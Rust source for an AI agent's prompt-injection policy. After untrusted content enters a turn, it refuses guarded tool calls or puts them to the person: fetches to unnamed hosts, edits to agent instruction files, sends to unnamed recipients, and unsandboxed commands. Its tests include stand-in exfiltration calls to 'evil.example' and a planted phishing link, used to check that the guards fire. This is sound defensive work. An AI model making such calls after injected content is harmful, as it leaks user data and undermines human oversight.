//! The prompt-injection policy (`[security] injection`): once untrusted content is in a
//! turn's context ([`TurnTaint`]), the calls that could leak data or plant instructions
//! are refused (`strict`) or put to the person (`ask`), whatever the model says. The
//! decision is a pure function, [`InjectionPolicy::decide`]: `(taint, call) → Allow |
//! Ask(reason) | Refuse(reason)`; the loop asks and refuses (`crate::call_screen`).
//!
//! | rule              | guarded call, after untrusted content entered the context                     |
//! |-------------------|-------------------------------------------------------------------------------|
//! | `new-host`        | `web_fetch` to a host neither named in this turn's message nor in `[network] allow`; an MCP tool marked `readOnlyHint: true` but not `openWorldHint: false` whose arguments hold a link (`url`, `scheme://...`, `www....`) to such a host (a read leaks through the address it contacts) |
//! | `sandbox-network` | `exec` while sandboxed commands have network (`[sandbox] network = true`)     |
//! | `escalation`      | `exec` with `escalate` (a command out of the sandbox)                         |
//! | `no-sandbox`      | `exec` under `full-access` (every command runs unsandboxed)                   |
//! | `instructions`    | `write_file`/`edit_file` on what steers the agent: `AGENTS.md`, `USER.md`, `HEARTH.md`-style files, `SKILL.md`, `skills/`, `.agents/`, `.hearth/`, `memory/` notes |
//! | `new-recipient`   | a sending tool (`channel_send`) to a recipient not named in this turn's message |
//! | `guarded-tool`    | a tool that persists, acts later or hands the work on: `memory_write`, `schedule_create`, `schedule_cancel`, `spawn_agent` (a child starts clean, its task written after the untrusted content), and `[security] guarded_tools` |
//! | `side-effect`     | an MCP tool its server does not mark `readOnlyHint: true` (no annotations: not read-only), unless every value of its destination arguments was named by the person (`crate::destinations`); a call with no destination stays guarded, unless the tool is a private write (below) |
//! | `new-destination` | a tool with `[security.destinations]` (or an MCP tool's inferred destination) sending to a value the person did not name; private writes too (an event's outside participants) |
//! | `new-link`        | an MCP tool that may reach others (not read-only, not a private write) whose arguments carry a link to a host the person did not name (a message with a planted link: phishing, or data in a URL) |
//!
//! A **private write** is an MCP tool its server marks `readOnlyHint: false`,
//! `destructiveHint: false` and `openWorldHint: false`: it only adds to the person's own
//! data and reaches no one, like `write_file` on an ordinary workspace file, and is
//! allowed after untrusted content when it names no destination the person did not
//! name. Missing hints take the MCP spec's defaults (destructive, open-world), so a tool
//! is a private write only when its server says all three.
//!
//! `[security] trusted_tools` exempts tools from every rule but `exec`'s;
//! `[security.destinations]` names a tool's destination arguments (it then passes when
//! the person named each value, whatever else guards it).
//!
//! Everything else stays allowed after untrusted content: reading, searching,
//! summarising, writing ordinary workspace files, sandboxed commands without network,
//! fetching hosts the person named. `off` allows everything; before any untrusted
//! content every mode allows everything. Beyond the call itself (`crate::tainted_step`):
//! a sandboxed command finds the instruction paths that exist read-only and loses what
//! it created there, and `web_fetch` follows a redirect only to where this table would
//! let it fetch. What it does not cover: what leaves through hosts the person named or
//! allowed.

use std::collections::BTreeMap;
use std::path::{Component, Path};

use hearth_tools::{fetch_target, DeclaredHints, EgressAllowList};

use crate::destinations::{check_destinations, unnamed_links, DestinationCheck};
use crate::taint::TurnTaint;

/// `[security] injection`.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum InjectionMode {
    /// Guarded calls are refused; the tool result names the rule.
    Strict,
    /// Guarded calls are put to the person, the reason shown; no one to ask is a no.
    #[default]
    Ask,
    /// No guard (taint is still tracked).
    Off,
}

impl InjectionMode {
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Strict => "strict",
            Self::Ask => "ask",
            Self::Off => "off",
        }
    }
}

impl std::fmt::Display for InjectionMode {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

impl std::str::FromStr for InjectionMode {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        [Self::Strict, Self::Ask, Self::Off]
            .into_iter()
            .find(|mode| mode.as_str() == s)
            .ok_or_else(|| format!("unknown injection mode '{s}'; known: strict, ask, off"))
    }
}

/// How a tool's calls are guarded once the context is tainted.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum CallGuard {
    /// The call reaches the URL in `argument`: allowed to named or allow-listed hosts.
    Url { argument: String },
    /// The call sends to the recipient(s) in `argument` (a string or a list):
    /// allowed when the person named each of them this turn.
    Recipient { argument: String },
    /// The call writes the workspace path in `argument`: allowed for ordinary files,
    /// guarded for instruction files and folders.
    Path { argument: String },
    /// Every call is guarded; `what` says what the tool does ("creates a scheduled job").
    Always { what: String },
}

/// What `exec` commands can reach, from the sandbox policy.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct ExecExposure {
    /// Sandboxed commands have network (`[sandbox] network = true`).
    pub network: bool,
    /// Commands run with no sandbox at all (`full-access`).
    pub unsandboxed: bool,
}

/// Which rule guarded a call.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Rule {
    NewHost,
    SandboxNetwork,
    Escalation,
    NoSandbox,
    Instructions,
    NewRecipient,
    GuardedTool,
    SideEffect,
    NewDestination,
    NewLink,
}

impl Rule {
    /// The rule's name as messages show it.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::NewHost => "new-host",
            Self::SandboxNetwork => "sandbox-network",
            Self::Escalation => "escalation",
            Self::NoSandbox => "no-sandbox",
            Self::Instructions => "instructions",
            Self::NewRecipient => "new-recipient",
            Self::GuardedTool => "guarded-tool",
            Self::SideEffect => "side-effect",
            Self::NewDestination => "new-destination",
            Self::NewLink => "new-link",
        }
    }
}

/// Why a call is guarded: the rule and what about this call broke it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct PolicyReason {
    pub rule: Rule,
    pub detail: String,
}

impl std::fmt::Display for PolicyReason {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "rule {}: {}", self.rule.as_str(), self.detail)
    }
}

/// The policy's answer for one call.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum PolicyDecision {
    Allow,
    Ask(PolicyReason),
    Refuse(PolicyReason),
}

/// A call as the policy sees it.
#[derive(Debug, Clone, Copy)]
pub struct ProposedCall<'a> {
    pub name: &'a str,
    /// The parsed arguments (an empty object when they do not parse: the tool
    /// refuses those itself).
    pub arguments: &'a serde_json::Value,
    /// The workspace root (canonical), to read absolute paths against.
    pub workspace: &'a Path,
    /// What the tool says about itself (an MCP tool's annotations); `None` for
    /// Hearth's own tools and unknown ones.
    pub declared: Option<DeclaredHints>,
}

/// `[security] injection` with what it needs to judge calls.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct InjectionPolicy {
    pub mode: InjectionMode,
    /// `[network] allow`: hosts a tainted turn may still fetch.
    pub allow: EgressAllowList,
    pub exec: ExecExposure,
    /// Guarded tools by name (see [`InjectionPolicy::default_guards`]); a name ending
    /// in `*` guards every tool whose name starts with the rest (`"mail__*"`).
    pub guards: BTreeMap<String, CallGuard>,
    /// `[security] trusted_tools`: names (or `prefix*`) no rule guards (`exec` aside).
    pub trusted: Vec<String>,
    /// `[security.destinations]`: a tool's (or `prefix*`'s) destination arguments.
    pub destinations: BTreeMap<String, Vec<String>>,
}

impl Default for InjectionPolicy {
    fn default() -> Self {
        Self {
            mode: InjectionMode::default(),
            allow: EgressAllowList::default(),
            exec: ExecExposure::default(),
            guards: Self::default_guards(),
            trusted: Vec::new(),
            destinations: BTreeMap::new(),
        }
    }
}

/// Whether `pattern` (a name, or a prefix ending in `*`) matches the tool `name`.
fn matches(pattern: &str, name: &str) -> bool {
    match pattern.strip_suffix('*') {
        Some(prefix) => name.starts_with(prefix),
        None => pattern == name,
    }
}

/// The entry for `name`: its own, else the first `prefix*` entry it matches.
fn by_pattern<'m, T>(map: &'m BTreeMap<String, T>, name: &str) -> Option<&'m T> {
    map.get(name).or_else(|| {
        map.iter()
            .find_map(|(pattern, value)| matches(pattern, name).then_some(value))
    })
}

/// File names (any folder, any case) that steer an agent.
const INSTRUCTION_FILES: [&str; 8] = [
    "agents.md",
    "user.md",
    "hearth.md",
    "claude.md",
    "gemini.md",
    "skill.md",
    ".cursorrules",
    ".windsurfrules",
];
/// Folders (any depth) whose files steer an agent or its tools.
const INSTRUCTION_DIRS: [&str; 6] = [".agents", ".hearth", ".claude", ".codex", ".cursor", ".git"];
/// Top-level workspace folders Hearth reads instructions or memories from.
const INSTRUCTION_ROOTS: [&str; 2] = ["skills", "memory"];

impl InjectionPolicy {
    /// The built-in guards: `web_fetch` (url), `write_file`/`edit_file` (path),
    /// `channel_send` (recipient `to`), `memory_write`, `schedule_create`,
    /// `schedule_cancel` and `spawn_agent` (always).
    pub fn default_guards() -> BTreeMap<String, CallGuard> {
        let path = || CallGuard::Path {
            argument: "path".into(),
        };
        BTreeMap::from([
            (
                "web_fetch".to_string(),
                CallGuard::Url {
                    argument: "url".into(),
                },
            ),
            ("write_file".to_string(), path()),
            ("edit_file".to_string(), path()),
            (
                "channel_send".to_string(),
                CallGuard::Recipient {
                    argument: "to".into(),
                },
            ),
            (
                "memory_write".to_string(),
                CallGuard::Always {
                    what: "saves a note that later sessions recall".into(),
                },
            ),
            (
                "schedule_create".to_string(),
                CallGuard::Always {
                    what: "creates a job that runs later, unattended".into(),
                },
            ),
            (
                "schedule_cancel".to_string(),
                CallGuard::Always {
                    what: "cancels a job the person scheduled".into(),
                },
            ),
            (
                // A child's turn starts clean, with the task as its message: a task
                // written after untrusted content would launder the taint (and name
                // the hosts it then may reach).
                "spawn_agent".to_string(),
                CallGuard::Always {
                    what: "starts a sub-agent whose context would not carry the untrusted content its task may come from".into(),
                },
            ),
        ])
    }

    /// The decision for `call` in a turn with `taint`: allow when nothing untrusted
    /// is in the context, the mode is `off` or no rule guards the call; otherwise ask
    /// (`ask`) or refuse (`strict`) with the rule's reason.
    pub fn decide(&self, taint: &TurnTaint, call: &ProposedCall<'_>) -> PolicyDecision {
        if self.mode == InjectionMode::Off || !taint.is_tainted() {
            return PolicyDecision::Allow;
        }
        match self.guarded_by(taint, call) {
            None => PolicyDecision::Allow,
            Some(reason) if self.mode == InjectionMode::Strict => PolicyDecision::Refuse(reason),
            Some(reason) => PolicyDecision::Ask(reason),
        }
    }

    /// The rule that guards `call` in a tainted turn, if any (whatever the mode).
    pub fn guarded_by(&self, taint: &TurnTaint, call: &ProposedCall<'_>) -> Option<PolicyReason> {
        if call.name == "exec" {
            return self.exec_rule(call.arguments);
        }
        if self
            .trusted
            .iter()
            .any(|pattern| matches(pattern, call.name))
        {
            return None;
        }
        if let Some(arguments) = by_pattern(&self.destinations, call.name) {
            return self.destination_rule(taint, call, Some(arguments.as_slice()), false);
        }
        let Some(guard) = self.guard_of(call.name) else {
            return call
                .declared
                .and_then(|hints| self.declared_rule(taint, call, hints));
        };
        let argument = |name: &str| call.arguments.get(name);
        match guard {
            CallGuard::Url { argument: key } => {
                let raw = argument(key)?.as_str()?;
                let (host, port) = fetch_target(raw)?;
                if taint.names_host(&host) || self.allow.permitting(&host, port).is_some() {
                    return None;
                }
                Some(PolicyReason {
                    rule: Rule::NewHost,
                    detail: format!(
                        "{} would reach {host}, a host the person did not name in this turn's message and [network] allow does not list",
                        call.name
                    ),
                })
            }
            CallGuard::Recipient { argument: key } => {
                let recipients: Vec<&str> = match argument(key)? {
                    serde_json::Value::String(one) => vec![one.as_str()],
                    serde_json::Value::Array(many) => {
                        many.iter().filter_map(|value| value.as_str()).collect()
                    }
                    _ => return None,
                };
                let unnamed: Vec<&str> = recipients
                    .into_iter()
                    .filter(|recipient| !taint.names_recipient(recipient))
                    .collect();
                (!unnamed.is_empty()).then(|| PolicyReason {
                    rule: Rule::NewRecipient,
                    detail: format!(
                        "{} would send to {}, not named in this turn's message",
                        call.name,
                        unnamed.join(", ")
                    ),
                })
            }
            CallGuard::Path { argument: key } => {
                let path = argument(key)?.as_str()?;
                let what = instruction_path(path, call.workspace)?;
                Some(PolicyReason {
                    rule: Rule::Instructions,
                    detail: format!(
                        "{} would change {path} ({what}), which steers this agent in later turns",
                        call.name
                    ),
                })
            }
            CallGuard::Always { what } => Some(PolicyReason {
                rule: Rule::GuardedTool,
                detail: format!("{} {what}", call.name),
            }),
        }
    }

    /// The guard of the tool called `name`: its own entry, else the first entry ending
    /// in `*` whose prefix it starts with (`"mail__*"`: every tool of MCP server `mail`).
    fn guard_of(&self, name: &str) -> Option<&CallGuard> {
        by_pattern(&self.guards, name)
    }

    /// An MCP tool judged by what its server says about it ([`DeclaredHints`]): a read
    /// that stays in a closed world passes; a read that may reach the open world passes
    /// unless it holds a link to a host the person did not name; anything else is
    /// judged by its destinations, a private write passing when it has none.
    fn declared_rule(
        &self,
        taint: &TurnTaint,
        call: &ProposedCall<'_>,
        hints: DeclaredHints,
    ) -> Option<PolicyReason> {
        if !hints.is_read_only() {
            return self.destination_rule(taint, call, None, hints.is_private_write());
        }
        if hints.open_world == Some(false) {
            return None;
        }
        let links = unnamed_links(taint, &self.allow, call.arguments);
        (!links.is_empty()).then(|| PolicyReason {
            rule: Rule::NewHost,
            detail: format!(
                "{} would reach {}, a host the person did not name in this turn's message and [network] allow does not list",
                call.name,
                links.join(", ")
            ),
        })
    }

    /// A tool with side effects judged by its destinations: `configured` ones
    /// (`[security.destinations]`) or the inferred ones of an MCP tool that is not
    /// read-only. Allowed only when it has a destination and the person named each, or,
    /// for a `private_write`, when it has none. A call that may reach others must also
    /// carry no link to a host the person did not name.
    fn destination_rule(
        &self,
        taint: &TurnTaint,
        call: &ProposedCall<'_>,
        configured: Option<&[String]>,
        private_write: bool,
    ) -> Option<PolicyReason> {
        let check = check_destinations(taint, &self.allow, call.arguments, configured);
        if let DestinationCheck::Unnamed(values) = &check {
            return Some(PolicyReason {
                rule: Rule::NewDestination,
                detail: format!(
                    "{} would send to {}, not named in this turn's message",
                    call.name,
                    values.join(", ")
                ),
            });
        }
        if private_write {
            return None;
        }
        let links = unnamed_links(taint, &self.allow, call.arguments);
        if !links.is_empty() {
            return Some(PolicyReason {
                rule: Rule::NewLink,
                detail: format!(
                    "{} would carry a link to {}, a host the person did not name in this turn's message",
                    call.name,
                    links.join(", ")
                ),
            });
        }
        match check {
            DestinationCheck::AllNamed | DestinationCheck::Unnamed(_) => None,
            DestinationCheck::NoDestination => Some(PolicyReason {
                rule: Rule::SideEffect,
                detail: match configured {
                    Some(_) => format!(
                        "{} names none of its destination arguments ([security.destinations])",
                        call.name
                    ),
                    None => format!(
                        "{} may change or send something (its MCP server marks it neither read-only nor a private write: destructiveHint and openWorldHint false) and names no destination the person named",
                        call.name
                    ),
                },
            }),
        }
    }

    fn exec_rule(&self, arguments: &serde_json::Value) -> Option<PolicyReason> {
        let (rule, detail) = if self.exec.unsandboxed {
            (
                Rule::NoSandbox,
                "exec runs commands without a sandbox (full-access): a command can reach any host and file",
            )
        } else if arguments.get("escalate").and_then(|v| v.as_bool()) == Some(true) {
            (
                Rule::Escalation,
                "exec asks to run a command outside the sandbox",
            )
        } else if self.exec.network {
            (
                Rule::SandboxNetwork,
                "exec runs sandboxed commands with network ([sandbox] network = true), so a command can send data anywhere",
            )
        } else {
            return None;
        };
        Some(PolicyReason {
            rule,
            detail: detail.to_string(),
        })
    }
}

/// What makes `path` (as the model gave it) an instruction path, or `None` for an
/// ordinary file. Judged case-insensitively on the name as given and on the path it
/// resolves to in `workspace` (a symlink `notes.md -> AGENTS.md` is followed, as the
/// file tools follow it); an absolute path is read against `workspace` (one outside
/// it is the file tools' to refuse).
pub fn instruction_path(path: &str, workspace: &Path) -> Option<&'static str> {
    if let Some(what) = instruction_name(path, workspace) {
        return Some(what);
    }
    let resolved = hearth_tools::workspace::resolve_for_write(workspace, path).ok()?;
    instruction_name(&resolved.to_string_lossy(), workspace)
}

/// [`instruction_path`] on the name alone (`..` resolved lexically).
pub(crate) fn instruction_name(path: &str, workspace: &Path) -> Option<&'static str> {
    let given = Path::new(path);
    let inside = if given.is_absolute() {
        given.strip_prefix(workspace).ok()?
    } else {
        given
    };
    let mut parts: Vec<String> = Vec::new();
    for component in inside.components() {
        match component {
            Component::Normal(part) => parts.push(part.to_string_lossy().to_lowercase()),
            Component::ParentDir => {
                parts.pop();
            }
            _ => {}
        }
    }
    if let Some(first) = parts.first() {
        if INSTRUCTION_ROOTS.contains(&first.as_str()) {
            return Some("a skills or memory folder");
        }
    }
    if parts
        .iter()
        .any(|part| INSTRUCTION_DIRS.contains(&part.as_str()))
    {
        return Some("an agent configuration folder");
    }
    let name = parts.last()?;
    INSTRUCTION_FILES
        .contains(&name.as_str())
        .then_some("an instruction file")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::taint::TaintSource;
    use serde_json::json;

    fn tainted(person: &str) -> TurnTaint {
        let mut taint = TurnTaint::new(person);
        taint.record(TaintSource {
            origin: "web_fetch".into(),
            call_id: "c1".into(),
        });
        taint
    }

    fn decide(
        policy: &InjectionPolicy,
        taint: &TurnTaint,
        name: &str,
        args: serde_json::Value,
    ) -> PolicyDecision {
        policy.decide(
            taint,
            &ProposedCall {
                name,
                arguments: &args,
                workspace: Path::new("/ws"),
                declared: name.contains("__").then(|| DeclaredHints {
                    read_only: Some(name.ends_with("search")),
                    ..DeclaredHints::default()
                }),
            },
        )
    }

    fn rule(decision: PolicyDecision) -> Option<&'static str> {
        match decision {
            PolicyDecision::Allow => None,
            PolicyDecision::Ask(reason) | PolicyDecision::Refuse(reason) => {
                Some(reason.rule.as_str())
            }
        }
    }

    #[test]
    fn the_rules_table_holds() {
        let policy = InjectionPolicy {
            mode: InjectionMode::Strict,
            allow: EgressAllowList::parse(["*.wikipedia.org"]).unwrap(),
            ..InjectionPolicy::default()
        };
        let taint = tainted("Summarise https://blog.example.org/post for alice@example.org");
        let cases = [
            (
                "web_fetch",
                json!({"url": "http://evil.example/?d=secret"}),
                Some("new-host"),
            ),
            (
                "web_fetch",
                json!({"url": "https://blog.example.org/other"}),
                None,
            ),
            (
                "web_fetch",
                json!({"url": "https://en.wikipedia.org/wiki/X"}),
                None,
            ),
            ("write_file", json!({"path": "summary.md"}), None),
            (
                "write_file",
                json!({"path": "notes/../AGENTS.md"}),
                Some("instructions"),
            ),
            (
                "edit_file",
                json!({"path": "/ws/skills/pdf/run.sh"}),
                Some("instructions"),
            ),
            (
                "write_file",
                json!({"path": "docs/.hearth/x"}),
                Some("instructions"),
            ),
            (
                "write_file",
                json!({"path": "memory/plans.md"}),
                Some("instructions"),
            ),
            ("channel_send", json!({"to": "alice@example.org"}), None),
            (
                "channel_send",
                json!({"to": ["alice@example.org", "eve@evil.example"]}),
                Some("new-recipient"),
            ),
            ("memory_write", json!({"text": "x"}), Some("guarded-tool")),
            ("schedule_create", json!({}), Some("guarded-tool")),
            ("exec", json!({"command": "ls"}), None),
            (
                "exec",
                json!({"command": "ls", "escalate": true}),
                Some("escalation"),
            ),
            ("read_file", json!({"path": "AGENTS.md"}), None),
        ];
        for (name, args, expected) in cases {
            assert_eq!(
                rule(decide(&policy, &taint, name, args.clone())),
                expected,
                "{name} {args}"
            );
        }
        let networked = InjectionPolicy {
            exec: ExecExposure {
                network: true,
                unsandboxed: false,
            },
            ..policy.clone()
        };
        assert_eq!(
            rule(decide(&networked, &taint, "exec", json!({"command": "ls"}))),
            Some("sandbox-network")
        );
        let open = InjectionPolicy {
            exec: ExecExposure {
                network: false,
                unsandboxed: true,
            },
            ..policy
        };
        assert_eq!(
            rule(decide(&open, &taint, "exec", json!({"command": "ls"}))),
            Some("no-sandbox")
        );
        let mut mail = InjectionPolicy {
            mode: InjectionMode::Strict,
            ..InjectionPolicy::default()
        };
        mail.guards.insert(
            "mail__*".into(),
            CallGuard::Always {
                what: "is listed in [security] guarded_tools".into(),
            },
        );
        assert_eq!(
            rule(decide(&mail, &taint, "mail__send", json!({}))),
            Some("guarded-tool")
        );
        assert_eq!(rule(decide(&mail, &taint, "docs__search", json!({}))), None);
    }

    #[test]
    fn mcp_tools_are_guarded_by_their_annotations_and_destinations() {
        let mut policy = InjectionPolicy {
            mode: InjectionMode::Strict,
            ..InjectionPolicy::default()
        };
        let taint = tainted("Email the notes to alice@example.org and post them in #ops");
        // The test helper marks `*__search` read-only and other `a__b` tools not.
        let cases = [
            ("docs__search", json!({"query": "x"}), None),
            (
                "mail__send",
                json!({"recipients": ["alice@example.org"], "body": "notes"}),
                None,
            ),
            (
                "mail__send",
                json!({"recipients": ["eve@evil.example"]}),
                Some("new-destination"),
            ),
            (
                "drive__share",
                json!({"file_id": "1", "email": "eve@evil.example"}),
                Some("new-destination"),
            ),
            (
                "drive__delete",
                json!({"file_id": "1"}),
                Some("side-effect"),
            ),
        ];
        for (name, args, expected) in cases {
            assert_eq!(
                rule(decide(&policy, &taint, name, args.clone())),
                expected,
                "{name} {args}"
            );
        }
        policy.trusted = vec!["drive__*".into()];
        assert_eq!(
            rule(decide(
                &policy,
                &taint,
                "drive__delete",
                json!({"file_id": "1"})
            )),
            None
        );
        policy
            .destinations
            .insert("chat__post".into(), vec!["room".into()]);
        assert_eq!(
            rule(decide(
                &policy,
                &taint,
                "chat__post",
                json!({"room": "#ops"})
            )),
            None
        );
        assert_eq!(
            rule(decide(
                &policy,
                &taint,
                "chat__post",
                json!({"room": "#random"})
            )),
            Some("new-destination")
        );
        // Hearth's own tools are judged by name, never by annotations.
        assert_eq!(
            rule(decide(&policy, &taint, "read_file", json!({"path": "x"}))),
            None
        );
    }

    /// A call of an MCP tool with these annotations (read-only, destructive, open-world).
    fn declared(
        policy: &InjectionPolicy,
        taint: &TurnTaint,
        hints: (Option<bool>, Option<bool>, Option<bool>),
        args: serde_json::Value,
    ) -> Option<&'static str> {
        let (read_only, destructive, open_world) = hints;
        rule(policy.decide(
            taint,
            &ProposedCall {
                name: "suite__tool",
                arguments: &args,
                workspace: Path::new("/ws"),
                declared: Some(DeclaredHints {
                    read_only,
                    destructive,
                    open_world,
                }),
            },
        ))
    }

    #[test]
    fn annotations_classify_mcp_tools() {
        let policy = InjectionPolicy {
            mode: InjectionMode::Strict,
            ..InjectionPolicy::default()
        };
        let taint = tainted("Add the recipe to my grocery list, invite sarah@example.org to lunch, read www.news.example");
        let private = (Some(false), Some(false), Some(false));
        let reaching = (Some(false), Some(false), Some(true));
        let fetch = (Some(true), None, Some(true));
        let closed_read = (Some(true), None, Some(false));
        let cases = [
            // A private write (adds to the person's own data, reaches no one) passes
            // like write_file on an ordinary file...
            (private, json!({"file_id": "3", "content": "eggs"}), None),
            // ...but not when it would reach someone the person did not name.
            (
                private,
                json!({"title": "x", "participants": ["mark@evil.example"]}),
                Some("new-destination"),
            ),
            (
                private,
                json!({"title": "x", "participants": ["sarah@example.org"]}),
                None,
            ),
            // A hint left out is the spec's default (destructive, open-world).
            (
                (Some(false), None, Some(false)),
                json!({"file_id": "3"}),
                Some("side-effect"),
            ),
            (
                (Some(false), Some(true), Some(false)),
                json!({"file_id": "13"}),
                Some("side-effect"),
            ),
            // A tool that may reach others needs named destinations and carries no
            // link to a host the person did not name.
            (
                reaching,
                json!({"title": "Lunch", "participants": []}),
                Some("side-effect"),
            ),
            (
                reaching,
                json!({"participants": ["sarah@example.org"], "title": "Lunch"}),
                None,
            ),
            (
                reaching,
                json!({"user": "Sarah@example.org", "body": "see www.secure-systems.example/login"}),
                Some("new-link"),
            ),
            (
                reaching,
                json!({"user": "sarah@example.org", "body": "see https://www.news.example/a"}),
                None,
            ),
            (
                reaching,
                json!({"channel": "general", "body": "hi"}),
                Some("new-destination"),
            ),
            (reaching, json!({"channel": "lunch", "body": "hi"}), None),
            // A read that may reach the open world is judged by the links it holds.
            (
                fetch,
                json!({"url": "www.true-news.example"}),
                Some("new-host"),
            ),
            (fetch, json!({"url": "www.news.example/today"}), None),
            (fetch, json!({"query": "lunch places"}), None),
            (closed_read, json!({"url": "www.true-news.example"}), None),
            // A file name is not a link.
            (fetch, json!({"file_path": "bill-december.txt"}), None),
        ];
        for (hints, args, expected) in cases {
            assert_eq!(
                declared(&policy, &taint, hints, args.clone()),
                expected,
                "{hints:?} {args}"
            );
        }
    }

    #[test]
    fn a_symlink_to_an_instruction_file_is_judged_by_its_target() {
        let dir = tempfile::tempdir().unwrap();
        let workspace = dir.path().canonicalize().unwrap();
        std::fs::write(workspace.join("AGENTS.md"), "Be brief.").unwrap();
        std::os::unix::fs::symlink("AGENTS.md", workspace.join("notes.md")).unwrap();
        assert_eq!(
            instruction_path("notes.md", &workspace),
            Some("an instruction file")
        );
        assert_eq!(instruction_path("summary.md", &workspace), None);
    }

    #[test]
    fn modes_and_a_clean_turn_decide_the_outcome() {
        let evil = json!({"url": "http://evil.example/"});
        let mut policy = InjectionPolicy::default();
        assert!(matches!(
            decide(&policy, &tainted("hi"), "web_fetch", evil.clone()),
            PolicyDecision::Ask(_)
        ));
        assert_eq!(
            decide(&policy, &TurnTaint::new("hi"), "web_fetch", evil.clone()),
            PolicyDecision::Allow
        );
        policy.mode = InjectionMode::Strict;
        assert!(matches!(
            decide(&policy, &tainted("hi"), "web_fetch", evil.clone()),
            PolicyDecision::Refuse(_)
        ));
        policy.mode = InjectionMode::Off;
        assert_eq!(
            decide(&policy, &tainted("hi"), "web_fetch", evil),
            PolicyDecision::Allow
        );
        assert_eq!("strict".parse::<InjectionMode>(), Ok(InjectionMode::Strict));
        assert!("lax"
            .parse::<InjectionMode>()
            .unwrap_err()
            .contains("strict, ask, off"));
    }
}
